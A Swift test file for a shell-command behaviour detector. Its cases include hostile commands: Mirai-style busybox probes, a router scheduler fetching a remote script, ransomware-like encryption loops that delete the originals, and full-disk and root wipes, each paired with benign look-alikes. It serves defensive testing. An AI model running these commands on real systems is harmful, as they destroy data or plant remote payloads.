import Bytes
import Evidence
import Testing

@testable import Detectors

private func severities(_ command: String) -> [String: Severity] {
  let found = command.withView { BehaviourDetector().scan($0, .command) }
  return Dictionary(found.map { (String($0.rule.dropFirst("behaviour.".count)), $0.severity) }) { first, _ in first }
}

@Suite struct BotRulesTests {
  @Test(
    arguments: [
      ("/bin/busybox MIRAI", "botnet-probe", .high),
      ("enable; system; shell; sh; /bin/busybox ECCHI", "botnet-probe", .high),
      ("ps -ef | grep '[Mm]iner'", "bot-reconnaissance", .low),
      ("ls -la /dev/ttyGSM* /var/spool/sms/*", "bot-reconnaissance", .low),
      ("echo -e \"1234\\n5678\\n5678\"|passwd|bash", "password-piped", .medium),
      ("echo -e \"5678\\n5678\" | passwd", "password-piped", .low),
      (
        "/system scheduler add name=\"a\" on-event=\"/tool fetch url=http://h.example/p mode=http dst-path=a.rsc\"",
        "router-scheduler", .medium
      ),
      (
        "for f in /srv/*; do openssl enc -aes-256-cbc -in $f -out $f.locked -k x; rm $f; done", "files-encrypted",
        .medium
      ),
      ("find /home -type f -exec gpg --batch -c --passphrase x {} \\;", "files-encrypted", .medium),
      ("rm -rf --no-preserve-root /", "everything-erased", .high),
      (
        "find /home -type f -exec openssl enc -aes-256-cbc -in {} -out {}.enc -k x \\;", "files-encrypted", .medium
      ),
      ("cat /bin/echo || while read i; do echo $i; done < /bin/echo", "botnet-probe", .high),
      ("dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", "botnet-probe", .high),
      ("/ip cloud print", "bot-reconnaissance", .low), ("uname -s -v -n -r -m", "bot-reconnaissance", .low),
      ("cat /proc/cpuinfo | grep name | wc -l", "bot-reconnaissance", .low),
      ("echo -e \"\\x6F\\x6B\"", "bot-reconnaissance", .low),
      ("dd if=/dev/zero of=/dev/sda bs=1M", "disk-erased", .medium), ("shred -n1 /dev/nvme0n1", "disk-erased", .medium),
    ] as [(String, String, Severity)])
  func isTold(command: String, rule: String, severity: Severity) {
    #expect(severities(command)[rule] == severity)
  }

  @Test(arguments: [
    "/bin/busybox sh", "busybox TZ=UTC date", "docker run busybox ECHO", "grep busybox README", "busybox ls MIRAI",
    "ps -ef | grep miner.service", "echo secret | passwd --stdin ops", "echo -e \"a\\na\" | passwd ops", "passwd ops",
    "/system scheduler add name=backup interval=1d on-event=\"/system backup save\"",
    "openssl enc -aes-256-cbc -in a.tgz -out a.tgz.enc -pass file:k",
    "for f in *.enc; do openssl enc -d -aes-256-cbc -in $f -out $f.plain; rm $f; done",
    "while read i; do echo $i; done < hosts.txt", "dd bs=52 count=1 if=disk.img", "uname -sr", "uname -s -r",
    "grep name /proc/cpuinfo | sort -u", "echo -e \"\\x6F\\x6B\\x21\"", "dd if=/dev/sda of=disk.img",
    "dd if=/dev/zero of=/dev/sdb bs=1M", "dd if=image.iso of=/dev/sda", "find . -exec openssl dgst -in {} \\;",
    "gpg --batch -e -r ops@h.example a.tgz", "rm -rf --no-preserve-root ./build",
  ])
  func ordinaryWorkStaysQuiet(command: String) {
    #expect(severities(command).isEmpty)
  }
}
